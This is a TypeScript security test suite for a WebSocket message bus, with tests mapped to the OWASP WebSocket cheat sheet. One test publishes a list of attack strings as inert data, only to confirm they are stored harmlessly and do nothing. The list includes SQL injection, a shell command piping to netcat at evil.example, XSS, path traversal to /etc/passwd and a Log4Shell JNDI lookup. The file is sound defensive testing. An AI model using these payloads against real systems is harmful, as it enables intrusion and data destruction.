/** The lines of the OWASP WebSocket Security Cheat Sheet, a test each (docs/security/standards.md#owasp). */
import { describe, expect, test } from 'bun:test'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { ErrorCode } from '@arqonbus/protocol'
import { connect, eventually, open, openRaw, refusal, startBus, testClock } from '@arqonbus/testing'
import { Glob } from 'bun'
import { expectServed } from '../bad-input/support/served.ts'
import { root, startBusProcess } from '../support/bus-process.ts'

const adminKey = 'the-key-of-the-admins'
const bus = await startBus({ adminKey, rateLimit: null })
const ports = [bus.busUrl, bus.telemetryUrl!]

describe('protocol configuration', () => {
  test('only RFC 6455 is spoken: the handshakes of earlier drafts are refused', async () => {
    const hixie = { 'Sec-WebSocket-Key1': '4 @1  46546xW%0l 1 5', 'Sec-WebSocket-Key2': '12998 5 Y3 1  .P00' }
    for (const url of ports) {
      for (const headers of [
        { 'Sec-WebSocket-Version': undefined, 'Sec-WebSocket-Key': undefined, ...hixie },
        ...['0', '6', '7', '8', '12'].map((version) => ({ 'Sec-WebSocket-Version': version })),
      ]) {
        const raw = await openRaw(url, { headers })
        expect((await raw.head()).status).toBeOneOf([400, 426])
        raw.destroy()
      }
    }
  })

  test('compression is not agreed to by default', async () => {
    for (const url of ports) {
      const raw = await openRaw(url, { headers: { 'Sec-WebSocket-Extensions': 'permessage-deflate' } })
      expect((await raw.head()).headers.get('sec-websocket-extensions')).toBeNull()
      raw.destroy()
    }
  })
})

describe('authentication and authorization', () => {
  test('a foreign Origin is refused by a list of allowed ones, and none is allowed by default', async () => {
    for (const url of ports) {
      const opened = open(url, { headers: { Origin: 'https://anything.example' } })
      expect((await opened.answer(null)).error?.code).toBe('forbidden')
      expect((await opened.closed).code).toBe(4403)
    }
  })

  test('cookies prove nothing and none is set, so that a page cannot act by the cookies of its user', async () => {
    const { welcome, close } = await bus.as('ada')
    await close()
    const cookies = `session=${welcome.session}; arqonbus-session=${welcome.session}; token=${adminKey}`
    const thief = open(bus.busUrl, { query: { client_id: 'ada' }, headers: { Cookie: cookies } })
    expect((await thief.answer(null)).error?.code).toBe('client_id_in_use')
    const eve = await bus.connect({ headers: { Cookie: cookies } })
    expect(eve.welcome.resumed).toBe(false)
    expect((await refusal(eve.command('pause_room', { room: 'science' }))).code).toBe('forbidden')
    await eve.close()
    const answers = await Promise.all(['/', '/api/v1/status', '/health'].map((path) => fetch(bus.httpUrl + path)))
    for (const { headers } of answers) expect(headers.get('set-cookie')).toBeNull()
  })

  test('a session that has expired resumes nothing', async () => {
    const clock = testClock()
    const short = await startBus({ sessionTtlMs: 60_000 }, { clock })
    const ada = await short.as('ada', 'science:explore')
    await ada.close()
    clock.advance(61_000)
    await short.metric('arqonbus_sessions_kept')
    const again = await short.connect({
      query: { client_id: 'ada' },
      headers: { 'Arqonbus-Session': ada.welcome.session },
    })
    expect(again.welcome).toMatchObject({ resumed: false, kept_subscriptions: [] })
  })

  test('a user who is shut out loses the connection and the session at once', async () => {
    const ada = await bus.as('ada-out')
    const admin = await bus.connect({ headers: { Authorization: `Bearer ${adminKey}` } })
    await admin.command('disconnect_client', { client_id: ada.id })
    expect((await ada.closed).code).toBe(4411)
    const again = await bus.connect({
      query: { client_id: ada.id },
      headers: { 'Arqonbus-Session': ada.welcome.session },
    })
    expect(again.welcome.resumed).toBe(false)
    await Promise.all([admin.close(), again.close()])
  })

  test('a token in the query is refused unless a setting allows it', async () => {
    for (const url of ports) {
      const opened = open(url, { query: { token: adminKey } })
      expect((await opened.answer(null)).error).toMatchObject({ code: 'invalid_parameters' })
      expect((await opened.closed).code).toBe(4400)
    }
  })

  test('every action is authorized by itself, whatever the connection was allowed before', async () => {
    const [owner, eve] = await Promise.all([bus.as('the-owner'), bus.as('eve')])
    await owner.command('create_channel', { channel: 'vault:gold', type: 'private' })
    const address = { room: 'vault', channel: 'gold' }
    const attempts: [ErrorCode, Promise<unknown>][] = [
      ['forbidden', eve.command('join_channel', address)],
      ['forbidden', eve.command('history', address)],
      ['forbidden', eve.command('channel_info', address)],
      ['forbidden', eve.command('delete_channel', address)],
      ['forbidden', eve.publish(address)],
      ['forbidden', eve.command('pause_room', { room: 'vault' })],
      ['forbidden', eve.command('disconnect_client', { client_id: 'the-owner' })],
      ['forbidden', eve.command('pause_room', { room: 'vault', admin_key: `${adminKey}x` })],
      ['sender_mismatch', eve.publish({ from: 'the-owner' })],
      ['forbidden_type', eve.publish({ type: 'system' })],
    ]
    for (const [code, attempt] of attempts) expect((await refusal(attempt)).code).toBe(code)
    const { channels } = await eve.command('list_channels', { room: 'vault' })
    expect(channels).toEqual([])
    await Promise.all([owner.close(), eve.close()])
  })
})

describe('input validation', () => {
  test('payloads that attack databases, shells, templates and pages arrive as they were sent, and do nothing', async () => {
    const ada = await bus.as('ada-reader', 'science:attacks')
    const attacks = [
      "'; DROP TABLE messages; --",
      '$(rm -rf /tmp/x) `id` | nc evil.example 1',
      '<img src=x onerror=alert(1)><script>alert(1)</script>',
      '{{7*7}} ${7*7} #{7*7}',
      '../../../../etc/passwd\u0000.txt',
      '*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$1\r\n1\r\n',
      '${jndi:ldap://evil.example/a}',
    ]
    for (const text of attacks) await ada.publish({ channel: 'attacks', payload: { text, [text.slice(0, 60)]: text } })
    const { messages } = await ada.command('history', { channel: 'science:attacks' })
    expect(messages.map(({ payload }) => payload.text)).toEqual(attacks)
    await ada.close()
  })

  test('the structure of every message is checked, and unknown fields are refused', async () => {
    const eve = await bus.as('eve-shape')
    for (const [code, fields] of [
      ['invalid_envelope', { surprise: 1 }],
      ['invalid_envelope', { payload: [] }],
      ['invalid_envelope', { room: '../etc' }],
      ['unsupported_version', { version: '9.9' }],
    ] as const)
      expect((await refusal(eve.publish(fields as object))).code).toBe(code)
    await eve.close()
  })

  test('binary data is refused whatever it contains', async () => {
    const eve = await bus.as('eve-binary')
    eve.raw(Buffer.from('{}'))
    expect((await eve.answer(null)).error?.code).toBe('binary_frame')
    await eve.close()
  })

  test('nothing of the product evaluates text as code', () => {
    const files = [...new Glob('packages/{protocol,server,client,cli,console}/{src,page}/**/*.{ts,tsx}').scanSync(root)]
    const product = files.filter((file) => !file.endsWith('.test.ts'))
    const evaluating =
      /(?<![.\w])eval\(|new Function\(|\bsetTimeout\(['"`]|from 'node:(?:vm|child_process)'|dangerouslySetInnerHTML/
    expect(product.length).toBeGreaterThan(300)
    expect(product.filter((file) => evaluating.test(readFileSync(join(root, file), 'utf8')))).toEqual([])
  })
})

describe('denial of service', () => {
  test('connections are limited in total and for each address', async () => {
    const small = await startBus({ maxConnections: 2, maxConnectionsPerAddress: 2 })
    const open = await Promise.all([small.connect(), small.connect()])
    const raw = await openRaw(small.busUrl)
    expect((await raw.head()).status).toBeOneOf([429, 503])
    await Promise.all(open.map((client) => client.close()))
  })

  test('messages are limited in size and rate, and a flood ends the connection', async () => {
    const strict = await startBus({ maxMessageBytes: 1024, rateLimit: { perSecond: 0.01, burst: 3 } })
    const eve = await strict.as('eve')
    eve.raw(`{"text":"${'x'.repeat(1024)}"}`)
    expect((await eve.answer(null)).error?.code).toBe('message_too_large')
    for (let i = 0; i < 500; i++) eve.send({ payload: { i } })
    expect((await eve.closed).code).toBe(4429)
    await expectServed(await startBus())
  })

  test('a connection that shows no sign of life is found by pings and closed', async () => {
    const clock = testClock()
    const timed = await startBus({ pingIntervalMs: 1000, pingTimeoutMs: 2000 }, { clock })
    const raw = await openRaw(timed.busUrl)
    await raw.nextJson()
    for (let i = 0; i < 4; i++) clock.advance(1000)
    expect((await raw.ended).code).toBe(4408)
  })

  test('a client that does not read is bounded, and a message to it delays no other', async () => {
    const tight = await startBus({ rateLimit: null, sendBufferHardLimit: 1024 * 1024, historySize: 1 })
    const slow = await openRaw(`${tight.busUrl}?client_id=slow&join=science:explore`)
    await slow.nextJson()
    slow.pause()
    const fast = await tight.as('fast', 'science:explore')
    const text = 'x'.repeat(100_000)
    for (let i = 0; i < 100; i++) {
      const id = fast.send({ channel: 'explore', payload: { i, text } })
      await fast.next((frame) => frame.id === id)
    }
    expect(await tight.metric('arqonbus_send_queue_bytes')).toBeLessThan(4 * 1024 * 1024)
    slow.destroy()
  })
})

test('the log has connections with identity, address and origin, refusals, rate limits and abnormal ends', async () => {
  const logged = await startBusProcess({ settings: { ARQONBUS_LOG_LEVEL: 'debug', ARQONBUS_RATE_LIMIT: '1/m,2' } })
  const lines = () =>
    logged
      .output()
      .split('\n')
      .flatMap((line) => (line.startsWith('{') ? [JSON.parse(line) as Record<string, unknown>] : []))
  const eve = await connect(logged.busUrl, { query: { client_id: 'eve' } })
  for (let i = 0; i < 5; i++) eve.send({})
  eve.raw('{')
  await open(logged.busUrl, { headers: { Authorization: 'Bearer wrong' } }).closed
  await open(logged.busUrl, { headers: { Origin: 'https://evil.example' } }).closed
  const cut = await openRaw(`${logged.busUrl}?client_id=cut`)
  await cut.nextJson()
  cut.destroy()
  const broken = await openRaw(`${logged.busUrl}?client_id=broken`)
  await broken.nextJson()
  broken.frame({ reserved: 7 })
  const expected = [
    { event: 'client_connected', client_id: 'eve', address: '127.0.0.1' },
    { event: 'frame_refused', client_id: 'eve', code: 'rate_limited', address: '127.0.0.1' },
    { event: 'frame_refused', client_id: 'eve', code: 'invalid_json' },
    { event: 'connection_refused', code: 'unauthenticated', close_code: 4401, address: '127.0.0.1' },
    { event: 'connection_refused', code: 'forbidden', close_code: 4403, origin: 'https://evil.example' },
    { event: 'client_disconnected', client_id: 'cut', code: 1006, by: 'network' },
    { event: 'client_disconnected', client_id: 'broken', code: 1002 },
  ]
  await eventually(() => {
    for (const line of expected) expect(lines()).toContainEqual(expect.objectContaining(line))
  })
  await eve.close()
  await logged.stop()
})

test('after all of it the bus serves as before', () => expectServed(bus))
